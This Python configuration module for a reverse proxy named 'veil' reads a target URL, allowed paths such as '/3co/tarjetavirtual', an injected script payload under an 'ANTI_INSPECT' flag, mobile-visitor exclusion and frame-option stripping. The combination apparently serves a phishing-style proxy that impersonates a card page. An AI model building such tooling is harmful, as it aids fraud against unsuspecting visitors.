import logging
import os
import re
from dataclasses import dataclass, field
from typing import Mapping, Optional, Tuple

from veil.proxy.host import derive_origin_host

logger = logging.getLogger("uvicorn.error")

DEFAULT_ALLOWED_PATHS = "/3co,/3co/tarjetavirtual"
DEFAULT_STATIC_PREFIXES = (
    "/assets,/css,/js,/build,/images,/img,/fonts,/storage,/favicon.ico"
)
DEFAULT_MOBILE_UA_PATTERN = (
    "Android|iPhone|iPad|iPod|IEMobile|Opera Mini|Mobile|BlackBerry"
)
DEFAULT_ACCEPT_LANGUAGE = "es-ES,es;q=0.9,en;q=0.8"
DEFAULT_USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"

_FALSY = {"off", "0", "false", "no"}


def _parse_list(raw: Optional[str]) -> Tuple[str, ...]:
    if not raw:
        return ()
    return tuple(entry.strip() for entry in raw.split(",") if entry.strip())


def _parse_flag(raw: Optional[str], default: bool) -> bool:
    if raw is None or raw.strip() == "":
        return default
    return raw.strip().lower() not in _FALSY


def _read_payload(env: Mapping[str, str]) -> str:
    path = env.get("INJECT_PAYLOAD_FILE", "")
    if path:
        try:
            with open(path, "r", encoding="utf-8") as fh:
                return fh.read()
        except OSError as e:
            logger.error(f"Cannot read INJECT_PAYLOAD_FILE {path}: {e}")
            raise
    return env.get("INJECT_PAYLOAD", "")


@dataclass(frozen=True)
class ProxyConfig:
    """Process-wide proxy settings. Built once at startup and never mutated."""

    target_url: str = ""
    allowed_paths: Tuple[str, ...] = ()
    static_prefixes: Tuple[str, ...] = ()
    api_prefixes: Tuple[str, ...] = ()
    domain_allowlist: Tuple[str, ...] = ()
    inject_enabled: bool = True
    inject_payload: str = ""
    mobile_exclusion_enabled: bool = True
    mobile_ua_pattern: re.Pattern = field(
        default_factory=lambda: re.compile(DEFAULT_MOBILE_UA_PATTERN, re.IGNORECASE)
    )
    strip_frame_options: bool = False
    caller_domain_header: str = "user_domain"
    caller_ip_header: str = "user_ip"
    session_id_header: str = "X-Session-Id"
    accept_language: str = DEFAULT_ACCEPT_LANGUAGE
    default_user_agent: str = DEFAULT_USER_AGENT
    upstream_timeout: float = 30.0
    origin_host: str = field(init=False)

    def __post_init__(self):
        object.__setattr__(self, "target_url", self.target_url.rstrip("/"))
        object.__setattr__(self, "origin_host", derive_origin_host(self.target_url))
        if isinstance(self.mobile_ua_pattern, str):
            object.__setattr__(
                self,
                "mobile_ua_pattern",
                re.compile(self.mobile_ua_pattern, re.IGNORECASE),
            )

    @property
    def is_configured(self) -> bool:
        return bool(self.target_url and self.origin_host)

    def is_mobile(self, user_agent: Optional[str]) -> bool:
        return bool(user_agent) and bool(self.mobile_ua_pattern.search(user_agent))

    @classmethod
    def from_env(cls, env: Optional[Mapping[str, str]] = None) -> "ProxyConfig":
        env = os.environ if env is None else env
        return cls(
            target_url=env.get("TARGET_URL", ""),
            allowed_paths=_parse_list(env.get("ALLOWED_PATHS", DEFAULT_ALLOWED_PATHS)),
            static_prefixes=_parse_list(
                env.get("STATIC_PREFIXES", DEFAULT_STATIC_PREFIXES)
            ),
            api_prefixes=_parse_list(env.get("API_PREFIXES", "")),
            domain_allowlist=_parse_list(env.get("DOMAIN_ALLOWLIST", "")),
            inject_enabled=_parse_flag(env.get("ANTI_INSPECT"), True),
            inject_payload=_read_payload(env),
            mobile_exclusion_enabled=_parse_flag(env.get("MOBILE_EXCLUSION"), True),
            mobile_ua_pattern=env.get("MOBILE_UA_PATTERN") or DEFAULT_MOBILE_UA_PATTERN,
            strip_frame_options=_parse_flag(env.get("STRIP_FRAME_OPTIONS"), False),
            caller_domain_header=env.get("CALLER_DOMAIN_HEADER", "user_domain"),
            caller_ip_header=env.get("CALLER_IP_HEADER", "user_ip"),
            session_id_header=env.get("SESSION_ID_HEADER", "X-Session-Id"),
            accept_language=env.get(
                "UPSTREAM_ACCEPT_LANGUAGE", DEFAULT_ACCEPT_LANGUAGE
            ),
            default_user_agent=env.get("DEFAULT_USER_AGENT", DEFAULT_USER_AGENT),
            upstream_timeout=float(env.get("PROXY_TIMEOUT", "30")),
        )
